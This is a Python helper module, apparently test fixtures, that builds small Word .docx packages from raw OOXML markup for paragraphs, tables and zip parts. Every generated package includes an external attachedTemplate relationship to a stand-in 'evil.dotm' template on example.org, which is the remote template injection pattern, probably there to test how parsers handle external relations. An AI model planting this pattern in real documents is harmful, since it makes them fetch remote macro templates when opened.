"""Small Word documents made of markup, so that every case shows what it is about."""

from __future__ import annotations

import io
import zipfile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NAMESPACES = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def root(local: str, inner: str, namespace: str = W) -> str:
    """Return a root element with all namespaces that the cases need."""
    return f'<w:{local} xmlns:w="{namespace}" {_NAMESPACES}>{inner}</w:{local}>'


def document(body: str, namespace: str = W) -> str:
    return root("document", f"<w:body>{body}</w:body>", namespace)


def run(text: str, properties: str = "") -> str:
    inside = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f'<w:r>{inside}<w:t xml:space="preserve">{text}</w:t></w:r>'


def paragraph(text: str = "", properties: str = "") -> str:
    inside = f"<w:pPr>{properties}</w:pPr>" if properties else ""
    return f"<w:p>{inside}{run(text) if text else ''}</w:p>"


def cell(inner: str = "", properties: str = "") -> str:
    """Return a cell; plain text is put into a paragraph."""
    inside = f"<w:tcPr>{properties}</w:tcPr>" if properties else ""
    return f"<w:tc>{inside}{inner if inner.startswith('<') else paragraph(inner)}</w:tc>"


def row(*cells: str, properties: str = "") -> str:
    inside = f"<w:trPr>{properties}</w:trPr>" if properties else ""
    texts = "".join(text if text.startswith("<w:") else cell(text) for text in cells)
    return f"<w:tr>{inside}{texts}</w:tr>"


def table(*rows: str, widths: tuple[int, ...] = ()) -> str:
    grid = "".join(f'<w:gridCol w:w="{width}"/>' for width in widths)
    return f"<w:tbl><w:tblPr/><w:tblGrid>{grid}</w:tblGrid>{''.join(rows)}</w:tbl>"


def package(parts: dict[str, str | bytes]) -> bytes:
    """Return a .zip of exactly these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx(body: str, *, namespace: str = W, **parts: str) -> bytes:
    """Return a document; further parts by kind: `styles="…"`, `numbering="…"`, `header="…"`."""
    relations = "".join(
        f'<Relationship Id="r{kind}" Type="{_RELATIONS}/{kind}" Target="{kind}.xml"/>'
        for kind in parts
    )
    holder = "http://schemas.openxmlformats.org/package/2006/relationships"
    return package(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": f'<Relationships xmlns="{holder}"><Relationship Id="r1" '
            f'Type="{_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": body if body.startswith("<?") else document(body, namespace),
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{holder}">{relations}'
            f'<Relationship Id="out" Type="{_RELATIONS}/attachedTemplate" '
            'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>',
            **{f"word/{kind}.xml": text for kind, text in parts.items()},
        }
    )
